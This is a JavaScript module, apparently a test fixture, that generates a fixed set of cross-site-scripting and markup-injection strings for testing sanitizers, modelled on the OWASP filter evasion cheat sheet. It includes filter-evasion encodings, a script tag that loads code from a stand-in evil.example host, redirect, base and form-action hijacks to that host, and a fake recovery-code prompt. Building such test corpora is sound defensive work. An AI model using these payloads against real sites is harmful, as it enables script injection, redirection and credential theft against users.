/**
 * Texts that would do something if they were more than text: mark-up that runs script when it is parsed, in the forms in
 * which filters were got around (case, spaces, entities, broken nesting, other name spaces), and what other programs take for
 * mark-up. After the classes of the OWASP filter evasion cheat sheet.
 */

const RUN = "window.ran=(window.ran||0)+1";

const TAGS = [
  "img",
  "svg",
  "video",
  "audio",
  "body",
  "iframe",
  "object",
  "embed",
  "input",
  "details",
  "math",
];
const EVENTS = ["onerror", "onload", "ontoggle", "onfocus", "onpointerover", "onanimationstart", "onbegin"];
const REST = ["", " src=x", " autofocus tabindex=1", " open", " style=animation-name:x", " srcdoc=x"];

/** @type {((text: string) => string)[]} */
const WRAPS = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("WINDOW.RAN", "window.ran"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t\n"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\u003c\u0000"),
  (text) => text.replaceAll(">", ""),
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `<!--><${text}-->`,
  (text) => `<svg><style>${text}</style></svg>`,
  (text) => `<math><mtext><table><mglyph><style>${text}`,
  (text) => `<noscript><p title="</noscript>${text}">`,
  (text) => `<template>${text}</template>`,
  (text) => `![x](${text})`,
  (text) => `[x](javascript:${text})`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\u202e${text}\u2066`,
];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example>`,
  `<link rel=stylesheet href=https://evil.example>`,
  `<form action=https://evil.example><button>Continue`,
  `<img src=https://evil.example/seen.png>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html "<b>"}`,
  `<style>@import url(https://evil.example)</style>`,
  `<x-relevo onclick=${RUN}>Relevo: enter your recovery code</x-relevo>`,
];

/**
 * The first `count` payloads, all different, always the same.
 *
 * @param {number} count
 * @returns {string[]}
 */
export function payloads(count) {
  const all = new Set(WHOLE);
  // by the diagonal, so that a short list has some of every kind
  for (let turn = 0; all.size < count; turn += 1) {
    const tag = TAGS[turn % TAGS.length];
    const event = EVENTS[Math.floor(turn / TAGS.length) % EVENTS.length];
    const rest = REST[(turn * 5) % REST.length];
    const wrap = WRAPS[turn % WRAPS.length] ?? ((text) => text);
    all.add(wrap(`<${tag}${rest} ${event}="${RUN}">`).slice(0, 400));
    all.add(wrap(WHOLE[turn % WHOLE.length] ?? ""));
  }
  return [...all].slice(0, count);
}
